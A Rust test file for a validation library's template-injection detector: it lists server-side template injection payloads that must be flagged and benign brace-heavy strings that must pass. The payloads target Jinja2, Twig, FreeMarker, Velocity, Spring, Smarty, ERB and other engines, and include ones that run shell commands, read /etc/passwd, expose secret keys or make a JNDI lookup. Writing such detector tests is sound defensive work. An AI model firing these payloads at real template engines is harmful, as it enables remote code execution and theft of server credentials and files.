//! Templates: what is found, and what not.

use wardkit_validation::{Policy, Sink};

#[test]
fn expressions_of_engines_are_found() {
    for text in ATTACKS {
        assert!(is_attack(text), "{text:?}");
    }
}

#[test]
fn braces_and_signs_of_other_texts_pass() {
    for text in PLAIN {
        assert!(!is_attack(text), "{text:?}");
    }
}

fn is_attack(text: &str) -> bool {
    let verdict = Policy::for_sink(Sink::Template).check(text).unwrap();
    verdict
        .findings()
        .iter()
        .any(|finding| PREFIXES.iter().any(|prefix| finding.rule.id.starts_with(prefix)))
}

/// Other detectors look at the same texts; these tests are about one.
const PREFIXES: &[&str] = &["template.", "code."];

const ATTACKS: &[&str] = &[
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "~{7*7}",
    "<%= 7*7 %>",
    "{{= 7*7 }}",
    "${{7*7}}",
    "@(7*7)",
    "{7*7}",
    "[[7*7]]",
    "{{ self }}",
    "{{config}}",
    "{{request}}",
    "{{ config.items() }}",
    "{% debug %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ ''|attr('__class__') }}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{_self.env.display(\"x\")}}",
    "{{['id']|filter('system')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.System).getenv()}",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "{system('ls')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"x\",self::clearConfig())}",
    "<%= system('ls') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= `ls` %>",
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os %>${os.popen(\"id\").read()}",
    "{{#with \"s\" as |string|}}{{/with}}",
    "{{this}}",
    "#{root.process.mainModule.require('child_process').spawnSync('cat')}",
    "#{function(){localLoad=global.process.mainModule.constructor._load}()}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c dir\");",
    "@{ var x = 1; }",
    "@(1+2)",
    "{{range.constructor(\"return global.process\")()}}",
    "{% import os %}{{ os.popen(\"whoami\").read() }}",
    "${{<%[%'\"}}%\\",
    "{{dump(app)}}",
    "{{app.request.server.all|join(',')}}",
    "{{settings.SECRET_KEY}}",
    "{% include 'admin/base_site.html' %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{ messages.storages.0.signer.key }}",
    "${product.getClass()}",
    "${pageContext.request}",
    "#{session.setAttribute(\"a\",\"b\")}",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "${param.x}",
    "[#assign x=1]",
    "[=7*7]",
    "{{printf \"%s\" \"x\"}}",
    "{{ .System \"ls\" }}",
    "{{define \"T1\"}}ONE{{end}}",
    "{{html \"x\"}}{{js \"alert\"}}",
    "{!{7*7}!}",
    "<%- include('/etc/passwd') %>",
    "{{\"a\".toUpperCase()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "${jndi:ldap://a.b/c}",
    "a{*comment*}b",
    "${@print(md5(1))}",
    "{${phpinfo()}}",
    "{if phpinfo()}{/if}",
    "{{[0]|reduce('system','id')}}",
    "{{['cat$IFS/etc/passwd']|filter('system')}}",
    "{% set x = 1 %}",
    "#foreach($i in [1..3])$i#end",
    "${x?api.class}",
    "{{@7*7}}",
    "<th:block th:text=\"${7*7}\">",
    "{{#each this}}{{/each}}",
];

const PLAIN: &[&str] = &[
    "fn main() { run(1); }",
    "{\"a\": {\"b\": 1}}",
    "{}",
    "{{}}",
    "printf(\"%d%%\n\", x)",
    "#1 (first) and #2",
    "meet @(place) at 5",
    "[[Main Page]]",
    "{1,2,3}",
    "a{2,3}",
    "5 * (3 + 4)",
    "100% {sure}",
    "<# #>",
    "\\section*{A title}",
    "$5 {or more}",
    "${HOME}",
    "let x = y {",
    "C# {get; set;}",
    "I <3 you %)",
    "{name} wrote",
    "<a href=\"#top\">(x)</a>",
    "#hashtag (fun)",
    "{{0x1, 0x2}, {0x3}}",
    "a @ b",
    "~{ }",
    "*{bold}*",
];

#[test]
fn a_lone_number_and_members_of_formatted_values_are_found() {
    for text in ["{{1}}", "{{ 42 }}", "{0.__class__}", "{user.__init__.__globals__}"] {
        assert!(is_attack(text), "{text:?}");
    }
    for text in ["int a[1][1] = {{1}};", "{0}", "{user.name}", "{__init__}"] {
        assert!(!is_attack(text), "{text:?}");
    }
}
